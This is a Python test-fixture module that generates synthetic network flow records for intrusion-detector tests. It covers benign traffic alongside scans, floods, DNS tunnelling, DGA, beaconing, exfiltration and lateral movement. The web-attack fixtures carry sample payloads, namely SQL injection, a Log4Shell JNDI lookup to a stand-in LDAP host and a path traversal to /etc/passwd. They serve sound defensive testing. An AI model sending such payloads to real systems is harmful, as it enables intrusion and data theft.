"""Synthetic flow traffic for the detector tests: a benign background of many hosts, and attacks.

Every generator returns a dict of FLOW columns (lists / arrays); :meth:`Synth.batches` merges
them, orders the flows by end time (as a collector exports them) and cuts them into batches.
"""

from __future__ import annotations

import numpy as np
import pytest

from finsa.wire import FLOW, RecordBatch

T0_MS = 1_750_000_000_000  # a flow time in 2025
ATTACKER = "203.0.113.66"


class Synth:
    """Flow column generators (deterministic for a seed)."""

    T0_MS = T0_MS
    ATTACKER = ATTACKER

    def __init__(self, seed: int = 0) -> None:
        self.rng = np.random.default_rng(seed)
        self._next_id = 1

    def _ids(self, n: int) -> np.ndarray:
        ids = np.arange(self._next_id, self._next_id + n, dtype=np.uint64)
        self._next_id += n
        return ids

    def benign(self, n: int, start_ms: int = T0_MS, duration_ms: int = 300_000,
               institution: str = "bank-a", n_clients: int = 300, net: str = "10.1") -> dict:
        """Clients browsing, resolving names and using internal services; ~2% failed attempts."""
        rng = self.rng
        clients = np.array([f"{net}.{1 + i // 250}.{1 + i % 250}" for i in range(n_clients)], dtype=object)
        servers = [(f"{net}.100.{i}", port, proto) for i, (port, proto) in
                   enumerate([(443, 6), (443, 6), (80, 6), (53, 17), (22, 6), (445, 6), (8080, 6), (3389, 6)])]
        servers += [(f"198.51.100.{i}", 443, 6) for i in range(20)]
        pick = rng.integers(0, len(servers), n)
        first = start_ms + np.sort(rng.integers(0, duration_ms, n))
        dur = rng.integers(5, 20_000, n)
        proto = np.array([servers[p][2] for p in pick])
        failed = (rng.random(n) < 0.02) & (proto == 6)
        pk1 = rng.integers(3, 60, n)
        by1 = (pk1 * rng.lognormal(5.5, 1.0, n)).astype(np.int64) + 60
        return {
            "flow_id": self._ids(n), "first_seen_ms": first,
            "last_seen_ms": np.where(failed, first, first + dur),
            "institution_id": [institution] * n, "protocol": proto, "ip_version": [4] * n,
            "src_ip": clients[rng.integers(0, n_clients, n)].tolist(),
            "dst_ip": [servers[p][0] for p in pick], "dst_port": [servers[p][1] for p in pick],
            "src_port": rng.integers(32768, 61000, n),
            "src2dst_packets": np.where(failed, 1, pk1), "src2dst_bytes": np.where(failed, 60, by1),
            "dst2src_packets": np.where(failed, 0, pk1 + rng.integers(0, 20, n)),
            "dst2src_bytes": np.where(failed, 0, (by1 * rng.lognormal(1.0, 1.0, n)).astype(np.int64)),
            "src2dst_tcp_flags": np.where(proto == 6, np.where(failed, 2, 27), 0),
            "dst2src_tcp_flags": np.where(proto == 6, np.where(failed, 0, 27), 0),
        }

    def scan(self, victim: str, ports: range | list, start_ms: int, duration_ms: int = 10_000,
             institution: str = "bank-a", attacker: str = ATTACKER, open_ports: tuple = (22, 443)) -> dict:
        """A SYN scan: one SYN per port; closed ports answer RST, open ones SYN-ACK (then RST)."""
        ports = np.asarray(list(ports))
        n = len(ports)
        first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
        is_open = np.isin(ports, open_ports)
        closed_rst = (~is_open) & (self.rng.random(n) < 0.3)
        return {
            "flow_id": self._ids(n), "first_seen_ms": first, "last_seen_ms": first + is_open * 2,
            "institution_id": [institution] * n, "protocol": [6] * n, "ip_version": [4] * n,
            "src_ip": [attacker] * n, "dst_ip": [victim] * n, "dst_port": ports,
            "src_port": [51515] * n, "src2dst_packets": 1 + is_open, "src2dst_bytes": 60 + 54 * is_open,
            "dst2src_packets": (is_open | closed_rst).astype(int), "dst2src_bytes": 60 * (is_open | closed_rst),
            "src2dst_tcp_flags": np.where(is_open, 6, 2),
            "dst2src_tcp_flags": np.where(is_open, 18, np.where(closed_rst, 20, 0)),
        }

    def synflood(self, victim: str, port: int, n: int, start_ms: int, duration_ms: int = 20_000,
                 sources: list[str] | None = None, institution: str = "bank-a") -> dict:
        """SYNs from spoofed (or a few given) sources; the victim answers SYN-ACK to some."""
        rng = self.rng
        if sources is None:
            sources = [f"{rng.integers(1, 224)}.{rng.integers(0, 256)}.{rng.integers(0, 256)}.{rng.integers(1, 255)}"
                       for _ in range(n)]
        first = start_ms + np.sort(rng.integers(0, duration_ms, n))
        answered = rng.random(n) < 0.5
        return {
            "flow_id": self._ids(n), "first_seen_ms": first, "last_seen_ms": first + answered * 3000,
            "institution_id": [institution] * n, "protocol": [6] * n, "ip_version": [4] * n,
            "src_ip": [sources[i % len(sources)] for i in range(n)], "dst_ip": [victim] * n,
            "dst_port": [port] * n, "src_port": rng.integers(1024, 65535, n),
            "src2dst_packets": [1] * n, "src2dst_bytes": [60] * n,
            "dst2src_packets": answered * 3, "dst2src_bytes": answered * 180,
            "src2dst_tcp_flags": [2] * n, "dst2src_tcp_flags": answered * 18,
        }

    def bruteforce(self, server: str, port: int, n: int, start_ms: int, spacing_ms: int = 2_000,
                   institution: str = "bank-a", attacker: str = ATTACKER) -> dict:
        """Short complete login connections of nearly the same client byte count."""
        rng = self.rng
        first = start_ms + np.arange(n) * spacing_ms + rng.integers(0, 200, n)
        return {
            "flow_id": self._ids(n), "first_seen_ms": first,
            "last_seen_ms": first + rng.integers(800, 1_500, n),
            "institution_id": [institution] * n, "protocol": [6] * n, "ip_version": [4] * n,
            "src_ip": [attacker] * n, "dst_ip": [server] * n, "dst_port": [port] * n,
            "src_port": rng.integers(32768, 61000, n), "src2dst_packets": rng.integers(11, 14, n),
            "src2dst_bytes": 2_100 + rng.integers(-40, 40, n), "dst2src_packets": rng.integers(9, 12, n),
            "dst2src_bytes": 3_000 + rng.integers(-40, 40, n),
            "src2dst_tcp_flags": [27] * n, "dst2src_tcp_flags": [27] * n,
        }

    @staticmethod
    def batches(*parts: dict, batch_rows: int = 1_000) -> list[RecordBatch]:
        """Merge column dicts (a column missing from a part gets its defaults), order by end time,
        cut into batches."""
        def column(part: dict, name: str) -> np.ndarray:
            if name in part:
                return np.asarray(part[name])
            return FLOW.field(name).empty(len(part["flow_id"]))

        names = list(dict.fromkeys(k for p in parts for k in p))
        whole = FLOW.make_batch({k: np.concatenate([column(p, k) for p in parts])
                                 for k in names}) if len(parts) > 1 else FLOW.make_batch(parts[0])
        order = np.argsort(whole.columns["last_seen_ms"], kind="stable")
        whole = whole.take(order)
        return [whole.take(np.arange(i, min(i + batch_rows, len(whole))))
                for i in range(0, len(whole), batch_rows)]

    @classmethod
    def per_second(cls, *parts: dict) -> list[RecordBatch]:
        """Batches of one second of flow end time each, as a worker receives them."""
        whole = cls.batches(*parts, batch_rows=10**9)[0]
        sec = whole.columns["last_seen_ms"] // 1000
        return [whole.take(np.flatnonzero(sec == s)) for s in np.unique(sec)]


@pytest.fixture
def synth() -> Synth:
    """A fresh generator (tests under --import-mode=importlib cannot import conftest)."""
    return Synth(seed=7)


@pytest.fixture(scope="session")
def synth_cls() -> type[Synth]:
    return Synth


# --- traffic with protocol hints (DNS, HTTP, TLS) and the attacks seen through them -------------

DNS_NAMES = ("www.example.com", "api.bank.example", "login.microsoftonline.com", "cdn.jsdelivr.net",
             "www.google.com", "update.googleapis.com", "e1234.dscb.akamaiedge.net", "outlook.office365.com",
             "r3---sn-4g5e6nsz.googlevideo.com", "ocsp.digicert.com", "fonts.gstatic.com",
             "internal-app-1234567890.eu-west-1.elb.amazonaws.com", "www.wikipedia.org", "s3.amazonaws.com",
             "ntp.ubuntu.com", "safebrowsing.googleapis.com", "portal.insurer-b.example", "www.ecb.europa.eu")
WEB_URIS = ("/", "/index.html", "/api/v1/accounts?id=123&sort=desc", "/search?q=union+station+chicago",
            "/static/js/app.min.js?v=1.2.3", "/login?next=%2Fdashboard", "/img/logo.png",
            "/api/items?filter=price%3E10%20and%20qty%3C5", "/news/2024/05/sleep-well",
            "/download?file=report-2024.pdf", "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D", "/robots.txt")


def _hinted(self: Synth, n: int, first: np.ndarray, institution: str, src: list, dst: list, dst_port,
            proto, c2s_packets, c2s_bytes, s2c_packets, s2c_bytes, **hints) -> dict:
    """A column dict with every column the hinted generators produce (hint columns default empty)."""
    cols = {
        "flow_id": self._ids(n), "first_seen_ms": first, "last_seen_ms": first + self.rng.integers(1, 400, n),
        "institution_id": [institution] * n, "protocol": np.broadcast_to(proto, n).copy(), "ip_version": [4] * n,
        "src_ip": list(src), "dst_ip": list(dst), "dst_port": np.broadcast_to(dst_port, n).copy(),
        "src_port": self.rng.integers(32768, 61000, n),
        "src2dst_packets": np.broadcast_to(c2s_packets, n).copy(), "src2dst_bytes": np.broadcast_to(c2s_bytes, n).copy(),
        "dst2src_packets": np.broadcast_to(s2c_packets, n).copy(), "dst2src_bytes": np.broadcast_to(s2c_bytes, n).copy(),
        "src2dst_tcp_flags": np.where(np.broadcast_to(proto, n) == 6, 27, 0),
        "dst2src_tcp_flags": np.where(np.broadcast_to(proto, n) == 6, 27, 0),
        "dns_query": [""] * n, "dns_qtype": np.zeros(n, int), "dns_rcode": np.zeros(n, int),
        "tls_sni": [""] * n, "tls_ja4": [""] * n, "http_host": [""] * n, "http_method": [""] * n,
        "http_uri": [""] * n,
    }
    cols.update({k: (list(v) if not isinstance(v, np.ndarray) else v) for k, v in hints.items()})
    return cols


def benign_hinted(self: Synth, n: int, start_ms: int = T0_MS, duration_ms: int = 300_000,
                  institution: str = "bank-a", n_clients: int = 300, net: str = "10.1") -> dict:
    """Clients resolving ordinary names (2% NXDOMAIN), browsing ordinary URIs, TLS with SNI,
    NTP to a pool every 64 s, and admins using SSH/RDP/SMB to a few internal servers."""
    rng = self.rng
    clients = np.array([f"{net}.{1 + i // 250}.{1 + i % 250}" for i in range(n_clients)], dtype=object)
    first = start_ms + np.sort(rng.integers(0, duration_ms, n))
    src = clients[rng.integers(0, n_clients, n)]
    kind = rng.choice(4, n, p=[0.45, 0.2, 0.3, 0.05])  # dns, http, tls, admin
    name = np.array(DNS_NAMES, dtype=object)[rng.integers(0, len(DNS_NAMES), n)]
    nx = (kind == 0) & (rng.random(n) < 0.02)
    name = np.where(nx, "wpad.corp.bank-a.local", name)
    uri = np.array(WEB_URIS, dtype=object)[rng.integers(0, len(WEB_URIS), n)]
    ext = np.array([f"198.51.100.{i}" for i in range(1, 41)], dtype=object)[rng.integers(0, 40, n)]
    admin = np.array([f"{net}.100.{i}" for i in (4, 5, 7)], dtype=object)[rng.integers(0, 3, n)]
    admin_port = np.where(admin == f"{net}.100.4", 22, np.where(admin == f"{net}.100.5", 445, 3389))
    dst = np.select([kind == 0, kind == 3], [f"{net}.100.3", admin], ext)
    cols = _hinted(self, n, first, institution, src, dst, np.select([kind == 0, kind == 1, kind == 3], [53, 80, admin_port], 443),
                   np.where(kind == 0, 17, 6), np.where(kind == 0, 1, rng.integers(4, 40, n)),
                   np.where(kind == 0, rng.integers(60, 90, n), rng.integers(400, 20_000, n)),
                   np.where(kind == 0, 1, rng.integers(4, 60, n)), rng.integers(100, 200_000, n),
                   dns_query=np.where(kind == 0, name, ""), dns_qtype=np.where(kind == 0, rng.choice([1, 28], n), 0),
                   dns_rcode=np.where(nx, 3, 0), http_host=np.where(kind == 1, "www.example.com", ""),
                   http_method=np.where(kind == 1, "GET", ""), http_uri=np.where(kind == 1, uri, ""),
                   tls_sni=np.where(kind == 2, name, ""))
    ntp_src = clients[:5]
    beats = np.arange(start_ms, start_ms + duration_ms, 64_000)
    ntp = _hinted(self, len(ntp_src) * len(beats), np.repeat(beats, len(ntp_src)), institution,
                  np.tile(ntp_src, len(beats)), ["192.0.2.123"] * (len(ntp_src) * len(beats)), 123, 17, 1, 90, 1, 90)
    return {k: np.concatenate([np.asarray(cols[k]), np.asarray(ntp[k])]) for k in cols}


def dns_tunnel(self: Synth, client: str, n: int, start_ms: int, domain: str = "t.exfil-example.com",
               resolver: str = "10.1.100.3", institution: str = "bank-a", spacing_ms: int = 500) -> dict:
    """dnscat-like: one query per flow, 60 hex characters of payload per name, TXT."""
    payload = [self.rng.bytes(30).hex() for _ in range(n)]
    first = start_ms + np.arange(n) * spacing_ms
    return _hinted(self, n, first, institution, [client] * n, [resolver] * n, 53, 17, 1, 150, 1, 220,
                   dns_query=[f"{p}.{domain}" for p in payload], dns_qtype=np.full(n, 16), dns_rcode=np.zeros(n, int))


def dga(self: Synth, client: str, n: int, start_ms: int, resolver: str = "10.1.100.3",
        institution: str = "bank-a", nx_share: float = 0.9) -> dict:
    """A bot trying random-letter domains, most of them unregistered (NXDOMAIN)."""
    letters = np.array(list("abcdefghijklmnopqrstuvwxyz"))
    names = ["".join(self.rng.choice(letters, self.rng.integers(10, 18))) + self.rng.choice([".com", ".net", ".biz"])
             for _ in range(n)]
    first = start_ms + np.sort(self.rng.integers(0, 20_000, n))
    return _hinted(self, n, first, institution, [client] * n, [resolver] * n, 53, 17, 1, 80, 1, 80,
                   dns_query=names, dns_qtype=np.ones(n, int), dns_rcode=np.where(self.rng.random(n) < nx_share, 3, 0))


def beacon(self: Synth, src: str, dst: str, n: int, start_ms: int, interval_ms: int = 30_000,
           jitter: float = 0.1, port: int = 443, institution: str = "bank-a") -> dict:
    """An implant calling home every ``interval_ms`` +/- ``jitter`` with alike small requests."""
    first = start_ms + np.arange(n) * interval_ms + (self.rng.uniform(-jitter, jitter, n) * interval_ms).astype(np.int64)
    return _hinted(self, n, first, institution, [src] * n, [dst] * n, port, 6, 6,
                   900 + self.rng.integers(-30, 30, n), 5, 1_400 + self.rng.integers(-100, 100, n))


def exfil(self: Synth, src: str, dst: str, total_bytes: int, start_ms: int, n: int = 30,
          duration_ms: int = 60_000, institution: str = "bank-a") -> dict:
    """Large uploads from an internal host to one external address."""
    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
    per = total_bytes // n
    return _hinted(self, n, first, institution, [src] * n, [dst] * n, 443, 6, per // 1400, per, per // 2800, 40_000)


def icmp_tunnel(self: Synth, src: str, dst: str, n: int, start_ms: int, institution: str = "bank-a") -> dict:
    """ICMP echo flows carrying ~1 kB per packet."""
    first = start_ms + np.arange(n) * 1_000
    return _hinted(self, n, first, institution, [src] * n, [dst] * n, 0, 1, 60, 60 * 1_024, 60, 60 * 1_024)


def lateral(self: Synth, src: str, hosts: list, start_ms: int, port: int = 445, institution: str = "bank-a",
            psexec: bool = False) -> dict:
    """A source reaching many internal hosts on an admin port; ``psexec``: a short SMB probe,
    then a session uploading ~300 kB, per host."""
    hosts = list(hosts)
    per = 2 if psexec else 1
    n = len(hosts) * per
    first = start_ms + np.arange(n) * 1_500
    sent = np.tile([1_200, 300_000], len(hosts)) if psexec else np.full(n, 1_500)
    return _hinted(self, n, first, institution, [src] * n, np.repeat(hosts, per), port, 6,
                   np.maximum(sent // 1400, 4), sent, 8, 3_000)


def web_attack(self: Synth, attacker: str, server: str, uris: list, start_ms: int, institution: str = "bank-a") -> dict:
    """HTTP requests carrying the given URIs to one server."""
    n = len(uris)
    first = start_ms + np.arange(n) * 700
    return _hinted(self, n, first, institution, [attacker] * n, [server] * n, 80, 6, 5, 700, 5, 2_000,
                   http_host=["portal.bank-a.example"] * n, http_method=["GET"] * n, http_uri=list(uris))


def marked(self: Synth, flows: list[tuple], start_ms: int, institution: str = "bank-a") -> dict:
    """Flows with collector markers: (offset_ms, src, dst, dst_port, protocol, app_markers) each,
    answered (a few packets both ways), 30 s long."""
    n = len(flows)
    first = start_ms + np.array([f[0] for f in flows], dtype=np.int64)
    cols = _hinted(self, n, first, institution, [f[1] for f in flows], [f[2] for f in flows],
                   np.array([f[3] for f in flows]), np.array([f[4] for f in flows]), 12, 3_000, 12, 60_000,
                   app_markers=[f[5] for f in flows])
    cols["last_seen_ms"] = first + 30_000
    return cols


def marked_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> dict:
    """An SMB exploit with DoublePulsar markers and the victim's callback with a downloaded stage,
    a bind shell with a prompt, a PsExec-style service copy, an ICMP text channel, a RAT redialling."""
    victim, attacker, handler = f"{net}.60.10", "203.0.113.45", "203.0.113.46"
    flows = [(0, attacker, victim, 445, 6, "smb1,smb1_trans2_session_setup_from_src"),
             (20_000, victim, handler, 4444, 6, "exe_from_dst"),
             (25_000, attacker, f"{net}.60.11", 4444, 6, "shell_from_dst"),
             (30_000, f"{net}.1.90", f"{net}.60.12", 445, 6, "smb2,smb_admin_share_from_src,smb_exe_write_from_src"),
             (35_000, f"{net}.1.91", "198.51.100.99", 0, 1, "icmp_text_from_src")]
    flows += [(40_000 + 10_000 * i, f"{net}.1.92", "198.51.100.98", 4433, 6, "") for i in range(7)]
    flows += [(45_000, f"{net}.1.93", "198.51.100.97", 80, 6, "flash_or_java_from_dst"),
              (50_000, f"{net}.1.93", "198.51.100.97", 80, 6, ""), (55_000, f"{net}.1.94", "198.51.100.96", 80, 6, "")]
    cols = marked(self, flows, start_ms, institution)
    cols["http_requests"] = [""] * (len(flows) - 3) + [
        "GET\tek.example\t/swf/x.swf\t200\tapplication/x-shockwave-flash",
        "GET\tek.example\t/land/a.html\t200\tapplication/octet-stream",
        "GET\tdb54a845.top\t/c/?c=WIN-7Q2L&u=alice&v=2\t200\ttext/html\nPOST\tdb54a845.top\t/r\t200\ttext/html"]
    return cols


def hinted_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> list[dict]:
    """One of each attack the hint-based detectors look for, within ~100 s from ``start_ms``."""
    return [
        self.dns_tunnel(f"{net}.1.77", 150, start_ms, resolver=f"{net}.100.3", institution=institution),
        self.dga(f"{net}.1.78", 40, start_ms, resolver=f"{net}.100.3", institution=institution),
        self.beacon(f"{net}.1.79", "192.0.2.66", 12, start_ms - 60_000, interval_ms=12_000, institution=institution),
        self.exfil(f"{net}.1.80", "203.0.113.201", 300_000_000, start_ms, institution=institution),
        self.lateral(f"{net}.1.81", [f"{net}.50.{i}" for i in range(1, 13)], start_ms, institution=institution,
                     psexec=True),
        self.web_attack("203.0.113.99", f"{net}.100.80", ["/x?id=1%27%20or%201=1--", "/${jndi:ldap://e.example/a}",
                                                           "/..%2f..%2fetc%2fpasswd"], start_ms, institution=institution),
        self.marked_attacks(start_ms, institution=institution, net=net),
    ]


for _f in (benign_hinted, dns_tunnel, dga, beacon, exfil, icmp_tunnel, lateral, web_attack, marked, marked_attacks,
           hinted_attacks):
    setattr(Synth, _f.__name__, _f)

#: Threat-intel indicators matching :func:`hinted_attacks` (the beacon's home), for detectors
#: that need them given.
HINTED_INDICATORS = {"addresses": ("192.0.2.66",), "domains": ("exfil-example.com",)}


# --- scans that are not SYNs, floods by victim (probescan, reflection, volumetric) ---------------

def _plain(self: Synth, n: int, first: np.ndarray, institution: str, src, dst, src_port, dst_port, proto,
           c2s_packets, c2s_bytes, s2c_packets=0, s2c_bytes=0, c2s_flags=0, s2c_flags=0, dur_ms=0) -> dict:
    """A column dict of ``n`` flows with scalars or arrays per column."""
    def full(v: object) -> np.ndarray:
        return np.broadcast_to(np.asarray(v, dtype=object if isinstance(v, str) else None), (n,)).copy()

    return {"flow_id": self._ids(n), "first_seen_ms": first, "last_seen_ms": first + full(dur_ms),
            "institution_id": [institution] * n, "protocol": full(proto), "ip_version": [4] * n,
            "src_ip": list(full(src)), "dst_ip": list(full(dst)), "src_port": full(src_port),
            "dst_port": full(dst_port), "src2dst_packets": full(c2s_packets), "src2dst_bytes": full(c2s_bytes),
            "dst2src_packets": full(s2c_packets), "dst2src_bytes": full(s2c_bytes),
            "src2dst_tcp_flags": full(c2s_flags), "dst2src_tcp_flags": full(s2c_flags)}


def stealth_scan(self: Synth, victim: str, ports, start_ms: int, flags: int = 1, institution: str = "bank-a",
                 attacker: str = "203.0.113.67", duration_ms: int = 2_000) -> dict:
    """FIN (1), NULL (0), Xmas (41), ACK (16) or Maimon (17) probes; closed ports answer RST-ACK."""
    ports = np.asarray(list(ports))
    n = len(ports)
    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
    return _plain(self, n, first, institution, attacker, victim, 45195, ports, 6, 1, 40, 1, 40, flags, 20)


def udp_scan(self: Synth, victim: str, ports, start_ms: int, institution: str = "bank-a",
             attacker: str = "203.0.113.68", duration_ms: int = 3_000) -> dict:
    """One empty UDP datagram per port, no UDP answer (closed ports answer ICMP, another flow)."""
    ports = np.asarray(list(ports))
    n = len(ports)
    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
    return _plain(self, n, first, institution, attacker, victim, 62025, ports, 17, 1, 28)


def amplification(self: Synth, victim: str, n: int, start_ms: int, port: int = 123, size: int = 468,
                  institution: str = "bank-a", duration_ms: int = 2_000) -> dict:
    """Answers from ``n`` reflectors' amplifier port to the victim, one flow each, nothing back."""
    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
    refl = [f"{self.rng.integers(1, 224)}.{self.rng.integers(0, 256)}.{self.rng.integers(0, 256)}.{i % 250 + 1}"
            for i in range(n)]
    return _plain(self, n, first, institution, refl, victim, port, self.rng.integers(1024, 65535, n), 17,
                  3, 3 * size)


def icmp_flood(self: Synth, victim: str, n_sources: int, start_ms: int, packets_each: int = 20,
               institution: str = "bank-a", duration_ms: int = 1_000) -> dict:
    """Echo requests from ``n_sources`` sources within ``duration_ms``, answered by echo replies."""
    first = start_ms + np.sort(self.rng.integers(0, duration_ms // 2, n_sources))
    srcs = [f"198.18.{i // 250}.{i % 250 + 1}" for i in range(n_sources)]
    return _plain(self, n_sources, first, institution, srcs, victim, 8, 0, 1, packets_each, packets_each * 84,
                  packets_each, packets_each * 84, dur_ms=duration_ms // 2)


def flood_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> list[dict]:
    """One stealth scan, one UDP scan, one NTP amplification and one ICMP flood from ``start_ms``."""
    return [self.stealth_scan(f"{net}.100.20", range(1, 41), start_ms, flags=41, institution=institution),
            self.udp_scan(f"{net}.100.21", range(1000, 1040), start_ms + 5_000, institution=institution),
            self.amplification(f"{net}.100.22", 250, start_ms + 10_000, institution=institution),
            self.icmp_flood(f"{net}.100.23", 100, start_ms + 15_000, packets_each=40, institution=institution)]


for _f in (stealth_scan, udp_scan, amplification, icmp_flood, flood_attacks):
    setattr(Synth, _f.__name__, _f)
